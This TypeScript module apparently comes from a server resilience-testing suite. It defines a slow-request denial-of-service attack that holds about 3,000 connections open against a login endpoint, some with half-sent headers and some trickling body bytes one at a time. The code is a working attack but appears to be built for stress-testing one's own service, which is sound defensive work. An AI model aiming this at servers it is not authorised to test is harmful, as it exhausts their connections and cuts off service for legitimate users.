import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, scaled } from "../attack.ts";
import { type Held, hold, spread } from "../calls.ts";

/** Milliseconds for which connections stay open, and between two bytes of those that send any. */
const stay = 30_000;
const interval = 1000;

const head =
  "POST /api/users/login/ HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n";
/** Half a header; a header without its body; a body that comes byte by byte. */
const beginnings = [
  head,
  `${head}content-length: 1000\r\n\r\n`,
  `${head}content-length: 1000\r\n\r\n{`,
];

export const attack: Attack = {
  title: "3,000 stalled and trickled requests",
  async stage(target, scale) {
    const count = scaled(3000, scale);
    return async (assault) => {
      const open: Held[] = [];
      await spread(count, 100, assault.signal, async (i) => {
        const held = hold(target, beginnings[i % beginnings.length] ?? head, assault, {
          read: true,
        });
        open.push(held);
        if (i % 50 === 49) await sleep(10);
      });
      const end = performance.now() + Math.max(2 * interval, stay * scale);
      while (performance.now() < end && !assault.signal.aborted) {
        await sleep(interval);
        for (const [i, { socket }] of open.entries())
          if (i % beginnings.length === 2 && socket.writable) socket.write(" ");
      }
      for (const { release } of open) release();
      await Promise.all(open.map(({ ended }) => ended));
    };
  },
};
